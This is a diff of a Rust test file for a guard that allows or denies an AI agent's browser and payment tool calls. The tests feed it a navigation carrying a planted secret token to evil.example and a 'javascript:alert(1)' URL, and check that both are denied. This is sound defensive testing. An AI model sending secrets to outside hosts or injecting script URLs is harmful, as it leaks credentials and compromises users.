@@ -7,21 +7,19 @@ use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 
-const LEOPOLD: &str = env!("CARGO_BIN_EXE_leopold");
+use crate::kit::{Sandbox, LEOPOLD};
+
 const SECRET: &str = "PlantedS3cretToken";
 
 const FLOW: &str = "+++\nname = \"checkout\"\nallowlist = [\"staging.example.com\"]\n\
 start_url = \"https://staging.example.com/\"\n[irreversible]\nforbid = [\"payment\"]\n\
 url_paths = [\"/checkout/confirm\"]\ntools = [\"mcp__stripe__.*\"]\n+++\nbrief\n";
 
-struct Project {
-    _tmp: tempfile::TempDir,
-    root: PathBuf,
-}
-
-fn project(active: bool) -> Project {
-    let tmp = tempfile::tempdir().unwrap();
-    let root = tmp.path().join("proj");
+/// A sandbox whose project holds the flow, a subdirectory to run from, and (if `active`) the
+/// ACTIVE.json of a running persona.
+fn project(active: bool) -> Sandbox {
+    let sb = Sandbox::new();
+    let root = &sb.project;
     std::fs::create_dir_all(root.join(".leopold/persona")).unwrap();
     std::fs::create_dir_all(root.join("flows")).unwrap();
     std::fs::create_dir_all(root.join("web/app")).unwrap();
@@ -33,7 +31,7 @@ fn project(active: bool) -> Project {
         )
         .unwrap();
     }
-    Project { _tmp: tmp, root }
+    sb
 }
 
 fn payload(root: &Path, tool: &str, input: serde_json::Value, id: &str) -> Vec<u8> {
@@ -73,8 +71,8 @@ fn guard_in(cwd: &Path, stdin: &[u8], env: &[(&str, &str)]) -> Output {
     out
 }
 
-fn guard(p: &Project, stdin: &[u8]) -> Output {
-    guard_in(&p.root, stdin, &[])
+fn guard(p: &Sandbox, stdin: &[u8]) -> Output {
+    guard_in(&p.project, stdin, &[])
 }
 
 /// Every file under `dir` with its contents.
@@ -111,8 +109,8 @@ fn assert_deny(out: &Output, reason: &str) -> String {
     err
 }
 
-fn events(p: &Project) -> Vec<serde_json::Value> {
-    std::fs::read_to_string(p.root.join(".leopold/persona/events.jsonl"))
+fn events(p: &Sandbox) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(p.project.join(".leopold/persona/events.jsonl"))
         .unwrap_or_default()
         .lines()
         .map(|l| serde_json::from_str(l).unwrap())
@@ -122,29 +120,29 @@ fn events(p: &Project) -> Vec<serde_json::Value> {
 #[test]
 fn an_allowed_navigation_exits_zero_in_silence_and_writes_nothing() {
     let p = project(true);
-    let before = files(&p.root);
+    let before = files(&p.project);
     let out = guard(
         &p,
         &payload(
-            &p.root,
+            &p.project,
             "mcp__browser__browser_navigate",
             serde_json::json!({"url": "https://staging.example.com/products"}),
             "toolu_1",
         ),
     );
     assert_allow(&out);
-    assert_eq!(files(&p.root), before);
+    assert_eq!(files(&p.project), before);
 }
 
 #[test]
 fn a_denied_navigation_prints_one_line_and_journals_the_host_only() {
     let p = project(true);
-    let before = files(&p.root);
+    let before = files(&p.project);
     let url = format!("https://user:{SECRET}@evil.example/account?token={SECRET}#{SECRET}");
     let out = guard(
         &p,
         &payload(
-            &p.root,
+            &p.project,
             "mcp__browser__browser_navigate",
             serde_json::json!({"url": url}),
             "toolu_01abc",
@@ -158,7 +156,7 @@ fn a_denied_navigation_prints_one_line_and_journals_the_host_only() {
     assert!(err.contains("journal the wall as a finding instead of retrying"));
 
     // Grep every file the guard wrote or changed.
-    let after = files(&p.root);
+    let after = files(&p.project);
     let written: Vec<_> = after
         .iter()
         .filter(|(path, bytes)| before.get(*path) != Some(*bytes))
@@ -203,7 +201,7 @@ fn an_irreversible_tool_is_its_own_event_with_a_null_host() {
     let out = guard(
         &p,
         &payload(
-            &p.root,
+            &p.project,
             "mcp__stripe__create_charge",
             serde_json::json!({"amount": 100}),
             "call_9",
@@ -222,7 +220,7 @@ fn an_irreversible_path_names_its_host_but_not_the_path() {
     let out = guard(
         &p,
         &payload(
-            &p.root,
+            &p.project,
             "mcp__browser__browser_navigate",
             serde_json::json!({"url": format!("https://staging.example.com/checkout/confirm?k={SECRET}")}),
             "t",
@@ -245,7 +243,7 @@ fn state_and_payload_failures_deny_with_their_reasons() {
         "payload_missing_field",
     );
     let mut big = payload(
-        &p.root,
+        &p.project,
         "mcp__browser__browser_navigate",
         serde_json::json!({"url": "https://staging.example.com/"}),
         "t",
@@ -254,12 +252,12 @@ fn state_and_payload_failures_deny_with_their_reasons() {
     assert_deny(&guard(&p, &big), "payload_too_large");
 
     std::fs::write(
-        p.root.join(".leopold/persona/ACTIVE.json"),
+        p.project.join(".leopold/persona/ACTIVE.json"),
         "{\"active\":tr",
     )
     .unwrap();
     let ok = payload(
-        &p.root,
+        &p.project,
         "mcp__browser__browser_navigate",
         serde_json::json!({"url": "https://staging.example.com/"}),
         "t",
@@ -267,7 +265,7 @@ fn state_and_payload_failures_deny_with_their_reasons() {
     assert_deny(&guard(&p, &ok), "active_state_malformed");
 
     std::fs::write(
-        p.root.join(".leopold/persona/ACTIVE.json"),
+        p.project.join(".leopold/persona/ACTIVE.json"),
         r#"{"active":true,"flow":"checkout","flow_path":"flows/missing.md"}"#,
     )
     .unwrap();
@@ -280,7 +278,7 @@ fn state_and_payload_failures_deny_with_their_reasons() {
 fn inert_without_an_active_run() {
     let p = project(false);
     let evil = payload(
-        &p.root,
+        &p.project,
         "mcp__browser__browser_navigate",
         serde_json::json!({"url": "https://evil.example/"}),
         "t",
@@ -288,18 +286,18 @@ fn inert_without_an_active_run() {
     assert_allow(&guard(&p, &evil));
     assert_allow(&guard(&p, b"garbage"));
     std::fs::write(
-        p.root.join(".leopold/persona/ACTIVE.json"),
+        p.project.join(".leopold/persona/ACTIVE.json"),
         r#"{"active":false}"#,
     )
     .unwrap();
     assert_allow(&guard(&p, &evil));
-    assert!(!p.root.join(".leopold/persona/events.jsonl").exists());
+    assert!(!p.project.join(".leopold/persona/events.jsonl").exists());
 }
 
 #[test]
 fn a_panic_still_denies_with_exit_two_and_one_line() {
     let p = project(true);
-    let out = guard_in(&p.root, b"{}", &[("__LEOPOLD_GUARD_PANIC", "1")]);
+    let out = guard_in(&p.project, b"{}", &[("__LEOPOLD_GUARD_PANIC", "1")]);
     let err = assert_deny(&out, "internal_error");
     assert!(!err.contains("__LEOPOLD_GUARD_PANIC"), "{err}");
 }
@@ -310,7 +308,7 @@ fn parallel_denials_append_whole_lines() {
     let n = 24;
     let handles: Vec<_> = (0..n)
         .map(|i| {
-            let root = p.root.clone();
+            let root = p.project.clone();
             std::thread::spawn(move || {
                 let body = payload(
                     &root,
@@ -349,13 +347,13 @@ fn exit_codes_are_only_zero_or_two() {
             .into_bytes(),
         format!("{}{}", "[".repeat(5000), "]".repeat(5000)).into_bytes(),
         payload(
-            &p.root,
+            &p.project,
             "mcp__b__click",
             serde_json::json!({"uid": "1_4"}),
             "t",
         ),
         payload(
-            &p.root,
+            &p.project,
             "mcp__b__navigate",
             serde_json::json!({"url": "javascript:alert(1)"}),
             "t",
